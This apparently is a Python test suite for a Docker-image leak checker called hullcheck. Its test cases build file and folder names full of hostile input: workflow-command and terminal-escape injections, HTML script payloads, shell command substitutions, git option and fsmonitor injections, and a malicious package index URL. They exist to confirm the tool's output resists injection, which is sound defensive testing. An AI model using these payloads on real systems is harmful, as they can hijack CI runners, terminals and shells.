"""Names that could do something to who reads them: line ends, escapes, markup, options."""

from __future__ import annotations

import json

from tests.hostile.case import Built, Finding, NotBuilt, Saying, case
from tests.hostile.ground import LEAKY, Ground

LEAK = "host-venv-in-image"


def _dockerfile_named(name: str) -> dict[str, str]:
    return {**LEAKY, "Dockerfile": "FROM scratch\n", name: LEAKY["Dockerfile"]}


def _folder_named(ground: Ground, name: str) -> Saying:
    ground.write({f"{name}/{path}": text for path, text in LEAKY.items()})
    return Finding(LEAK, f"{name}/Dockerfile")


@case(twin=True)
def line_end_and_workflow_command(ground: Ground) -> Saying:
    """A line end and a workflow command in a folder's name."""
    return _folder_named(ground, "x\n::set-env name=PATH::evil\n::stop-commands::y")


@case(twin=True)
def carriage_return_and_old_command(ground: Ground) -> Saying:
    """A carriage return and a command of the runner's older form in a folder's name."""
    return _folder_named(ground, "x\r##[add-path]evil")


@case(twin=True)
def terminal_escapes(ground: Ground) -> Saying:
    """Escapes that clear the terminal, set its title and colour, in a folder's name."""
    return _folder_named(ground, "\x1b[2J\x1b]0;evil\x07\x1b[31mred")


@case(twin=True)
def operating_system_command_link(ground: Ground) -> Saying:
    """A terminal's hyperlink escape in a folder's name."""
    return _folder_named(ground, "\x1b]8;;http:evil.example\x1b\\click\x1b]8;;\x1b\\")


@case(twin=True)
def eight_bit_controls(ground: Ground) -> Saying:
    """Control characters of eight bits, which some terminals obey."""
    return _folder_named(ground, "\x9b2J\x85next\x90")


@case(twin=True)
def reading_direction(ground: Ground) -> Saying:
    """Overrides, embeddings and isolates that turn the reading direction."""
    return _folder_named(ground, "\u202egnp.\u2066a\u2069\u200f")


@case(twin=True)
def unseen_characters(ground: Ground) -> Saying:
    """Zero width spaces, joiners, a soft hyphen, tags and a byte order mark."""
    return _folder_named(ground, "a\u200bb\u200d\u00ad\U000e0041\ufeff")


@case(twin=True)
def line_and_paragraph_separators(ground: Ground) -> Saying:
    """Unicode's own line ends, which many programs split at."""
    return _folder_named(ground, "a\u2028::error::b\u2029c\x0bd\x0ce")


@case(twin=True)
def bytes_that_are_no_text(ground: Ground) -> Saying:
    """A name that is not UTF-8."""
    return _folder_named(ground, "\udcff\udcfe\udc80")


@case(twin=True)
def overlong_and_surrogate_bytes(ground: Ground) -> Saying:
    """UTF-8 of a surrogate and an overlong slash: bytes that lax decoders take."""
    return _folder_named(ground, b"\xed\xa0\x80\xc0\xaf".decode("utf-8", "surrogateescape"))


@case(twin=True)
def markdown_link_and_image(ground: Ground) -> Saying:
    """A link, an image and a reference in a folder's name."""
    return _folder_named(ground, "[a](http:evil.example) ![b](x) [c]: evil")


@case(twin=True)
def markdown_fence_and_table(ground: Ground) -> Saying:
    """Backticks, pipes, a heading and a rule in a folder's name."""
    return _folder_named(ground, "```\n# head\n|a|b|\n***\n`` ` |")


@case(twin=True)
def mention_and_issue(ground: Ground) -> Saying:
    """Mentions of people and of issues in a folder's name."""
    return _folder_named(ground, "@octocat fixes #1 octo-org-team GH-2")


@case(twin=True)
def html_with_a_script(ground: Ground) -> Saying:
    """Elements, a handler and a comment's end in a folder's name."""
    return _folder_named(ground, "--><img src=x onerror=alert(1)><script>1<")


@case(twin=True)
def html_that_ends_an_attribute(ground: Ground) -> Saying:
    """Quotes, entities and what would end an attribute or a style."""
    return _folder_named(ground, "\"' onmouseover='x' &lt;&#0; ]]> ><style>")


@case(twin=True)
def names_like_options(ground: Ground) -> Saying:
    """Files named as options of git and of hullcheck."""
    names = ("-rf", "--config=x", "--output=evil", "-", "--", "--upload-pack=touch evil")
    ground.leaky(dict.fromkeys(names, ""))
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def folder_like_an_option(ground: Ground) -> Saying:
    """A folder with a build, named as an option."""
    return _folder_named(ground, "--write")


@case(twin=True)
def shell_in_a_name(ground: Ground) -> Saying:
    """A name that a shell would run."""
    return _folder_named(ground, f"$(touch {ground.canary.name});`touch x`|touch y&")


@case(twin=True)
def git_path_magic(ground: Ground) -> Saying:
    """Names that git takes for patterns and for revisions."""
    ground.leaky(dict.fromkeys((":(glob)**", ":!x", "HEAD", "@{-1}", "a..b", "^x", ":0:a"), ""))
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def wildcards_in_a_name(ground: Ground) -> Saying:
    """A folder named by wildcards and escapes of patterns."""
    return _folder_named(ground, "[a-z]*?{b,c}\\d!")


@case(twin=True)
def percent_escapes(ground: Ground) -> Saying:
    """What a workflow command or an URI would read back as a line end."""
    return _folder_named(ground, "a%0A::error::b%25%2F..%2Fc%00,file=x:y")


@case(twin=True)
def format_directives(ground: Ground) -> Saying:
    """Braces and percents that formatting would fill in."""
    return _folder_named(ground, "{0}{number}{{x}} %s %n %(a)s ${HOME}")


@case(twin=True)
def spaces_alone(ground: Ground) -> Saying:
    """A folder whose name is a space, with tabs beside it."""
    return _folder_named(ground, " /\t \t")


@case(twin=True)
def name_of_255_bytes(ground: Ground) -> Saying:
    """A folder with the longest name that a file system takes."""
    return _folder_named(ground, "a" * 255)


@case(twin=True)
def path_of_4000_bytes(ground: Ground) -> Saying:
    """A build in a folder whose path has 3,600 bytes."""
    return _folder_named(ground, "/".join(["b" * 250] * 14) + "/" + "c" * 80)


@case(twin=True)
def path_of_4000_bytes_beyond_ascii(ground: Ground) -> Saying:
    """The same in characters that are escaped to four times their length."""
    return _folder_named(ground, "/".join(["\u202e" * 80] * 14))


@case(twin=True)
def same_name_in_two_normal_forms(ground: Ground) -> tuple[Saying, ...]:
    """Two folders whose names look alike, composed and decomposed."""
    first, second = (_folder_named(ground, name) for name in ("caf\u00e9", "cafe\u0301"))
    return first, second


@case(twin=True)
def same_name_in_two_cases(ground: Ground) -> tuple[Saying, ...]:
    """Names that are one on a file system without case."""
    ground.leaky({"dockerfile": "FROM scratch\n", ".DOCKERIGNORE": "*\n", "PYPROJECT.TOML": "["})
    return (Finding(LEAK, "Dockerfile"),)


@case(twin=True)
def looks_like_a_dockerfile(ground: Ground) -> tuple[Saying, ...]:
    """A Dockerfile's name in Cyrillic letters is none."""
    name = "D\u043e\u0441kerfile"
    ground.leaky({name: LEAKY["Dockerfile"]})
    return NotBuilt(name), Finding(LEAK, "Dockerfile")


@case(twin=True)
def names_of_windows(ground: Ground) -> Saying:
    """Devices, streams, drives and dots at the end, as Windows reads them."""
    names = ("con", "nul.txt", "a:stream", "C:\\x", "dot.", "\\\\server\\share", "..\\..\\etc")
    ground.leaky(dict.fromkeys(names, ""))
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nearly_the_git_directory(ground: Ground) -> Saying:
    """Names that some file systems take for `.git`."""
    names = (".GIT/config", "git~1/config", ".g\u200cit/config", ".git./x", ".git /x")
    ground.leaky(dict.fromkeys(names, "[core]\n\tfsmonitor = touch evil\n"))
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def names_of_python_s_own(ground: Ground) -> Saying:
    """Modules that Python would import from a current folder."""
    trap = "raise SystemExit('run')\n"
    names = ("sitecustomize.py", "click.py", "yaml/__init__.py", "hullcheck/__init__.py", "re.py")
    ground.leaky(dict.fromkeys(names, trap))
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def a_dockerfile_and_its_ignore_file(ground: Ground) -> Saying:
    """A hostile name twice: the Dockerfile's, and the ignore file's beside it."""
    name = "x\x1b[1m|`<b>@a\u202e.Dockerfile"
    ground.write({**_dockerfile_named(name), f"{name}.dockerignore": ".git\n.venv # no\n"})
    return Finding("ineffective-ignore-pattern", f"{name}.dockerignore")


@case(twin=True)
def many_combining_marks(ground: Ground) -> Saying:
    """A letter under a hundred marks, which pile up over other lines."""
    return _folder_named(ground, "a" + "\u0301" * 100)


@case(twin=True)
def wide_and_private_characters(ground: Ground) -> Saying:
    """Wide letters, emoji sequences, private and unassigned code points."""
    return _folder_named(ground, "\u5bb9\u5668\U0001f468\u200d\U0001f469\ue000\U0010ffff\u0378")


def _shown(place: str) -> str:
    return f"x{place}\x1b[2J\u202e<img src=x onerror=alert(1)>`|@octocat"


@case(twin=True)
def nasty_ignore_pattern(ground: Ground) -> Saying:
    """The ignore pattern that decides."""
    ground.leaky({".dockerignore": f".git\n.venv # {_shown('p')}\n"})
    return Finding("ineffective-ignore-pattern", ".dockerignore")


@case(twin=True)
def nasty_source_and_destination(ground: Ground) -> Saying:
    """The source and the destination of a COPY."""
    text = "FROM python:3.13\n" + "".join(
        f"COPY {json.dumps(words, ensure_ascii=False)}\n"
        for words in ([".", f"/{_shown('d')}/"], [_shown("s").replace("$", ""), "/x"])
    )
    ground.leaky({"Dockerfile": text})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_stage(ground: Ground) -> Saying:
    """The name of a stage, and one that is copied from."""
    name = _shown("stage").replace(" ", "\u00a0")
    text = f"FROM python:3.13 AS {name}\nCOPY . /app\nFROM scratch\nCOPY --from={name} /app /app\n"
    ground.leaky({"Dockerfile": text})
    return Built("Dockerfile")


@case(twin=True)
def nasty_image(ground: Ground) -> Saying:
    """The reference of a base image."""
    ground.leaky({"Dockerfile": f"FROM {_shown('i').replace(' ', '')}\nCOPY . /app\n"})
    return Built("Dockerfile")


@case(twin=True)
def nasty_variables(ground: Ground) -> Saying:
    """Variables, their values, and a directory made of them."""
    text = f'FROM python:3.13\nENV A="{_shown("v")}"\nWORKDIR /$A\nCOPY . $A\nLABEL "$A"="$A"\n'
    ground.leaky({"Dockerfile": text})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_instruction(ground: Ground) -> Saying:
    """An instruction that nobody knows, and one that is wrong."""
    ground.leaky({"Dockerfile": f"FROM python:3.13\n{_shown('I')} a\nCOPY . /app\n"})
    return Built("Dockerfile")


@case(twin=True)
def nasty_service(ground: Ground) -> Saying:
    """Name, target, arguments and volumes of a compose service."""
    text = """
services:
  "s\\e[2J\\u202E<b>|`@octocat\\n::error::x":
    build: {context: ., target: "t\\e[2J\\u202E<b>`|", args: {"a\\e<b>": "v\\u202E"}}
    volumes: [".:/app", "v\\e<b>`|:/app/.venv"]
    command: "uv run \\e[2J<b>`|@octocat"
"""
    ground.leaky({"compose.yaml": text})
    return Built("Dockerfile")


@case(twin=True)
def nasty_workflow(ground: Ground) -> Saying:
    """Names, tags and arguments of a workflow's step."""
    text = """
on: push
jobs:
  "j\\e[2J<b>`|@octocat":
    runs-on: ubuntu-latest
    name: "\\e[2J\\u202E"
    steps:
      - uses: actions/checkout@v4
      - name: "\\n::error::x<b>"
        uses: docker/build-push-action@v6
        with: {context: ., tags: "a\\e<b>`|", build-args: "A=\\e<b>\\u202E", target: "\\e|`<b>"}
"""
    ground.leaky({".github/workflows/\x1b<b>.yml": text})
    return Built("Dockerfile")


@case(twin=True)
def nasty_allowance(ground: Ground) -> Saying:
    """The reason of an allowance, which is told in place of the finding."""
    comment = f"# hullcheck: allow[{LEAK}] {_shown('r')}\n"
    ground.leaky({"Dockerfile": LEAKY["Dockerfile"].replace("COPY", comment + "COPY")})
    return Built("Dockerfile")


@case(twin=True)
def nasty_allowed_rule(ground: Ground) -> Saying:
    """The rule that an allowance names is no rule."""
    comment = f"# hullcheck: allow[{_shown('q')}] x\n"
    ground.leaky({"Dockerfile": LEAKY["Dockerfile"].replace("COPY", comment + "COPY")})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_evidence(ground: Ground) -> Saying:
    """An example of an env file, whose name is the evidence for one that is not there."""
    name = "\x1b[2J<b>`|@octocat"
    ground.leaky({f"{name}/.env.example": "SECRET_KEY=\n", ".gitignore": ".env\n.venv\n"})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_git_ignore(ground: Ground) -> Saying:
    """A line of `.gitignore` that names a host file."""
    ground.leaky({".gitignore": f".venv-{_shown('g')}/\n.env.\x1b[2J\u202e<b>\n"})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_requirement(ground: Ground) -> Saying:
    """Names of packages in lists that are installed from."""
    text = f"{_shown('r')}\n-r \x1b[2J<b>.txt\n--index-url http://evil.example/@octocat\n"
    run = "FROM python:3.13\nCOPY . .\nRUN pip install -r requirements.txt && pip install '<b>@x'\n"
    ground.leaky({"requirements.txt": text, "Dockerfile": run})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_command(ground: Ground) -> Saying:
    """A RUN that is quoted where it is told of."""
    run = f'RUN pip install "{_shown("c")}" && uv sync --{_shown("f")}\n'
    ground.leaky({"Dockerfile": LEAKY["Dockerfile"] + run})
    return Finding(LEAK, "Dockerfile")


@case(twin=True)
def nasty_make_target(ground: Ground) -> Saying:
    """A target of a Makefile and a tag."""
    ground.leaky({"Makefile": f"im\x1b[2J<b>age:\n\tdocker build -t '{_shown('t')}' .\n"})
    return Built("Dockerfile")


@case(twin=True)
def nasty_unknown(ground: Ground) -> Saying:
    """A variable whose value is not known, in what is said not to be known."""
    name = "<b>@octocat"
    text = f"ARG A\nFROM python:3.13\nARG A\nCOPY ${{A}}/{name}\x1b[2J\u202e/x /app/\nCOPY . /y\n"
    ground.leaky({"Dockerfile": text})
    return Finding(LEAK, "Dockerfile")
